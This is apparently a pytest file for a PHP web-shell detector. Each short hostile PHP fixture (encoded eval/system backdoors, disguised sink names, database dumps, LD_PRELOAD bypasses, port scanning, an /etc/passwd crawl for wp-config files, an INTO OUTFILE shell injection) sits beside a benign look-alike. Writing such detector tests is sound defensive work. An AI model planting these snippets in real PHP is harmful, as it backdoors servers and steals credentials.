"""PHP web-shell shapes of issue 11's third tuning round: encoded payloads a file carries without the
reader seeing them run, sinks whose names are spelled to hide them, whole-database dump scripts and
LD_PRELOAD bypasses of disable_functions; each next to a benign look-alike that must stay clean,
and the hostile inputs of the payload decoder. Samples are written here, none is copied from a
collection."""

from __future__ import annotations

import base64
import time
import zlib

from agent.imagegate import webshell
from agent.imagegate.webshell.php_payloads import decode
from tests.unit.php_shell_asserts import _clean, _hits, _shell


def _b64(s: str) -> str:
    return base64.b64encode(s.encode()).decode()


# -- encoded payloads -------------------------------------------------------------------------------
def test_a_hex_payload_printed_for_another_page_to_include():
    # a relay that serves its shell as hex: nothing here runs it, the constant says what it is
    code = b"assert($_POST['q']);".hex()
    h = _shell(f"<?php if ($_GET['k'] == 'code') echo sprintf('{code}');", rule="php.encoded-payload")
    assert "$_POST['q']" in h.source and "assert" in h.snippet


def test_a_base64_payload_handed_to_a_callee_we_cannot_name():
    # the decoder's name is a bareword PHP cannot resolve the way the author meant: the callee is unknown
    payload = _b64("if(isset($_COOKIE['c'])){system(base64_decode($_COOKIE['c']));}")
    spaced = " ".join(payload)
    h = _shell(f"<?php $b = strrev(ZEDOCED); $c = 'x'; $c($b(str_replace(' ', '', '{spaced}')));",
               rule="php.encoded-payload")
    assert "$_COOKIE['c']" in h.source


def test_a_payload_split_by_a_broken_quote_is_read_from_the_text():
    payload = _b64("$d = $_REQUEST['d']; eval($d);" + " " * 40)
    _shell(f'<?php $x = "eval(base64_decode("{payload}"));"; $y = 1;', rule="php.encoded-payload")


def test_a_compressed_payload():
    raw = zlib.compress(b"<?php @eval($_POST['p']); ?>")[2:-4]  # raw deflate, as gzdeflate writes it
    enc = base64.b64encode(raw).decode()
    _shell(f"<?php $blob = '{enc}'; $f = $_GET['f']; echo strlen($blob);", rule="php.encoded-payload")


def test_base64_data_in_ordinary_code_is_clean():
    png = base64.b64encode(bytes(range(256)) * 4).decode()
    _clean(f"<?php $img = '{png}'; header('Content-Type: image/png'); echo base64_decode($img);")
    # encoded text that is code but runs no request data: a template, a snippet shown in docs
    snippet = _b64("<?php echo htmlspecialchars($title); ?>")
    _clean(f"<?php $tpl = '{snippet}'; echo htmlspecialchars(base64_decode($tpl));")
    # a key, a hash, a long identifier
    _clean("<?php const KEY = "
           "'MIIBIjANBgkqhkiG9w0BAQEFAAOCAQ8AMIIBCgKCAQEAu1SU1LfVLPHCozMxH2Mo4lgOEePzNm0tRgeLezV6ffAt0';"
           " $h = 'd41d8cd98f00b204e9800998ecf8427ed41d8cd98f00b204e9800998ecf8427e'; echo KEY, $h;")


def test_decode_rejects_what_is_not_encoded_code():
    assert decode("abcdefghijklmnopqrstuvwxyzabcdefghijkl") is None  # letters only: a word, not base64
    assert decode(_b64("just some prose that is long enough to be looked at")) is None
    assert decode(_b64("system($_GET['x']);")) is not None
    assert decode(b"system($_GET['x']);".hex()) is not None


def test_hostile_payloads_end_in_bounded_time():
    # a thousand distinct encoded constants that each decode to PHP: at most MAX_CANDIDATES are read
    texts = [f"$v{i} = $_GET[{i}]; echo system($v{i});" for i in range(1000)]
    parts = ["'" + _b64(t) + "'" for t in texts]
    t = time.process_time()
    hs = _hits("<?php $a = array(" + ", ".join(parts) + ");")
    assert time.process_time() - t < 10
    assert webshell.is_shell(hs)
    # a deflate bomb behind base64: the inflate is capped, the result is junk, nothing is found
    bomb = base64.b64encode(zlib.compress(b"\0" * (64 << 20), 9)).decode()
    t = time.process_time()
    _clean(f"<?php $x = '{bomb}';")
    assert time.process_time() - t < 10
    # nested payloads: each layer decodes to another layer (bounded by the decode depth)
    layer = "system($_GET['c']);"
    for _ in range(30):
        layer = f"$z = '{_b64(layer)}';"
    hs = _hits("<?php " + layer)
    assert all(h.rule != "reader-error" for h in hs), hs


# -- sinks spelled to hide them ---------------------------------------------------------------------
def test_a_sink_name_picked_out_of_a_scrambled_alphabet():
    h = _shell("<?php $a = 'sewtemznypianol'; $f = $a{0}.$a{8}.$a{0}.$a{3}.$a{1}.$a{5}; echo $f('id');",
               rule="php.hidden-sink", sink="system")
    assert "pick" in h.snippet


def test_a_sink_name_reversed_with_a_constant_command():
    _shell("<?php $f = strrev('metsys'); $f(base64_decode('aWQ='));", rule="php.hidden-sink", sink="system")


def test_a_function_table_of_hex_names_decoded_in_a_loop():
    names = ", ".join(f"'{n.encode().hex()}'" for n in ("getcwd", "move_uploaded_file", "is_dir"))
    code = (f"<?php $fc = array({names}); for ($i = 0; $i < count($fc); $i++) $fc[$i] = hex2bin($fc[$i]);"
            " $fc[1]($_FILES['f']['tmp_name'], $_POST['d']);")
    _shell(code, rule="php.uploader")


def test_characters_picked_for_ordinary_uses_are_clean():
    _clean("<?php $s = 'system'; if ($s[0] == 's') { echo ucfirst($s); } $f = 'system'; $f('uptime');")
    _clean("<?php $w = 'hello'; $f = $w[0] . $w[1]; echo $f; $g = 'str' . 'toupper'; echo $g($_GET['q']);")


# -- database dumps ---------------------------------------------------------------------------------
_DUMP = """<?php
$link = mysql_connect('localhost', 'root', 'secret');
mysql_select_db('shop');
$out = '';
$q = mysql_query('SHOW TABLES');
while ($t = mysql_fetch_array($q)) {
    $table = $t[0];
    $c = mysql_fetch_array(mysql_query("SHOW CREATE TABLE `$table`"));
    $out .= $c[1] . ";\\n";
    $rows = mysql_query("SELECT * FROM `$table`");
    while ($r = mysql_fetch_assoc($rows)) { $out .= "INSERT INTO `$table` VALUES ('" . implode("','", $r) . "');\\n"; }
}
$fp = fopen(date('Ymd') . '.sql', 'w'); fputs($fp, $out); fclose($fp);
"""


def test_a_flat_script_dumping_every_table():
    _shell(_DUMP, rule="php.db-dump")


def test_a_backup_class_and_a_single_table_page_are_clean():
    _clean("<?php class Backup { function run($db) { $q = mysql_query('SHOW TABLES');"
           " while ($t = mysql_fetch_array($q)) { $r = mysql_query(\"SELECT * FROM `$t[0]`\"); } } }")
    _clean("<?php $q = mysql_query('SHOW TABLES'); while ($t = mysql_fetch_array($q)) echo $t[0];"
           " $r = mysql_query('SELECT * FROM users WHERE id = ' . intval($_GET['id']));")


# -- LD_PRELOAD -------------------------------------------------------------------------------------
def test_ld_preload_through_putenv_and_mail():
    _shell("<?php file_put_contents('/tmp/x.so', base64_decode($_POST['so'])); putenv('LD_PRELOAD=/tmp/x.so');"
           " mail('a@b', '', '', '');", rule="php.ld-preload", sink="putenv")


def test_ld_preload_in_proc_opens_environment():
    _shell("<?php $env = array('LD_PRELOAD' => '/tmp/s.so'); proc_open('true', array(), $p, '/tmp', $env);",
           rule="php.ld-preload", sink="proc_open")


def test_ordinary_environment_settings_are_clean():
    _clean("<?php putenv('TZ=UTC'); putenv('LANG=C'); $env = array('PATH' => '/usr/bin');"
           " $p = proc_open('date', array(1 => array('pipe', 'w')), $pipes, '/tmp', $env);")


# -- whole files kept reversed or in rot13 ----------------------------------------------------------
_STORE = ("function run($c) { echo shell_exec($c); return 1; }\nfunction show($x) { echo $x; return 0; }\n"
          "function main() { echo 'ok'; return run($_POST['c']); }\nmain();\n")


def test_a_reversed_store_without_its_open_tag():
    _shell(_STORE[::-1], rule="php.encoded-payload", source="$_POST['c']")


def test_a_rot13_file():
    _shell(("<?php " + _STORE).translate(str.maketrans(
        "ABCDEFGHIJKLMabcdefghijklmNOPQRSTUVWXYZnopqrstuvwxyz",
        "NOPQRSTUVWXYZnopqrstuvwxyzABCDEFGHIJKLMabcdefghijklm")), rule="php.encoded-payload")


def test_reversed_text_that_is_not_a_shell_is_clean():
    _clean(("function add($a, $b) { return $a + $b; }\nfunction hi() { echo 'hi'; return 1; }\n"
            "echo add(1, 2); echo htmlspecialchars($_GET['q']);")[::-1])


# -- PHP's "{$a["k"]}" (the quote inside the braces does not close the string) ---------------------
def test_a_quoted_key_inside_an_interpolated_string():
    _shell('<?php system("{$_GET["c"]}");', rule="php.request-to-exec", source="$_GET['c']")
    _clean('<?php echo "<b>{$row["name"]}</b>"; echo "}"; $x = "{$a";')


# -- YAML callbacks ---------------------------------------------------------------------------------
def test_yaml_tags_mapped_to_a_sink():
    _shell('<?php $t = urlencode($_REQUEST["op"]); $y = "greeting: !{$t} \\"|.+|e\\"";'
           ' yaml_parse($y, 0, $n, array("!{$_REQUEST["op"]}" => "preg_replace"));', rule="php.callback-sink")


def test_yaml_tags_mapped_to_ordinary_functions_are_clean():
    _clean('<?php $d = yaml_parse(file_get_contents("c.yml"), 0, $n, array("!date" => "strtotime"));')


# -- connections to hosts the request names ---------------------------------------------------------
def test_a_tunnel_connecting_where_the_request_says():
    _shell('<?php $h = apache_request_headers(); $s = socket_create(AF_INET, SOCK_STREAM, SOL_TCP);'
           ' socket_connect($s, $h["X-TARGET"], (int)$h["X-PORT"]); socket_write($s, file_get_contents("php://input"));',
           rule="php.request-connect")


def test_a_port_scanner():
    _shell('<?php foreach (explode(",", $_POST["ports"]) as $p) { $c = @fsockopen($_POST["ip"], $p, $e, $s, 1);'
           ' if ($c) { echo "$p open"; fclose($c); } }', rule="php.request-connect")


def test_a_mail_client_class_connecting_to_its_callers_host_is_clean():
    _clean('<?php class Smtp { private $s; function connect($host, $port) { $this->s = fsockopen($host, $port);'
           ' return (bool)$this->s; } function send($m) { fwrite($this->s, $m); } }'
           ' $m = new Smtp(); $m->connect($_POST["host"], 25);')
    _clean('<?php $c = fsockopen("smtp.example.org", 25); fwrite($c, "EHLO " . $_SERVER["SERVER_NAME"] . "\\r\\n");')


# -- every account's home, from /etc/passwd ---------------------------------------------------------
def test_a_config_grabber_walking_every_home():
    _shell("<?php $f = fopen('/etc/passwd', 'r'); "
           "while (!feof($f)) { $l = fgets($f); $u = substr($l, 0, strpos($l, ':'));"
           " $c = \"/home/$u/public_html/wp-config.php\"; if (is_readable($c)) { echo file_get_contents($c); } }",
           rule="php.account-crawl")


def test_reading_passwd_or_a_home_alone_is_clean():
    _clean("<?php $users = file('/etc/passwd'); echo count($users) . ' accounts';")
    _clean("<?php $u = get_current_user(); if (is_dir(\"/home/$u/logs\")) { echo 'logs'; }")


# -- by-reference parameters ------------------------------------------------------------------------
def test_a_name_finished_by_a_by_reference_parameter():
    _shell("<?php function fin(&$v) { $v = $v . 't'; } $a = 'asser'; fin($a); $a($_GET['x']);",
           rule="php.request-to-code", sink="assert")


def test_a_by_reference_parameter_filled_with_request_data():
    _shell("<?php function get(&$out) { $out = $_POST['c']; return true; } get($cmd); get($cmd); system($cmd);",
           rule="php.request-to-exec")


def test_by_reference_helpers_in_ordinary_code_are_clean():
    _clean("<?php function clean(&$s) { $s = htmlspecialchars($s); } $q = 'abc'; clean($q); echo $q;"
           " function inc(&$n) { $n++; } $i = 1; inc($i); echo $i;")


# -- a web shell carried as plain text inside another script ----------------------------------------
def test_an_exploit_carrying_a_shell_as_text():
    h = _shell("<?php $url = $_POST['url']; $out = $_POST['out'];"
               " $sql = \"0' UNION SELECT '<? system(\\$_GET[k]); ?>' INTO OUTFILE '$out\";"
               " echo '<a href=' . $url . '?id=' . urlencode($sql) . '>go</a>';", rule="php.encoded-payload")
    assert h.sink == "embedded script" and "system" in h.snippet


def test_php_text_without_a_shell_is_clean():
    _clean("<?php $tpl = '<?php echo htmlspecialchars($title); ?>'; file_put_contents('cache/t.php', $tpl);")
    _clean("<?php $doc = 'Use <?php system(\"ls\"); ?> only in the CLI.'; echo nl2br($doc);")
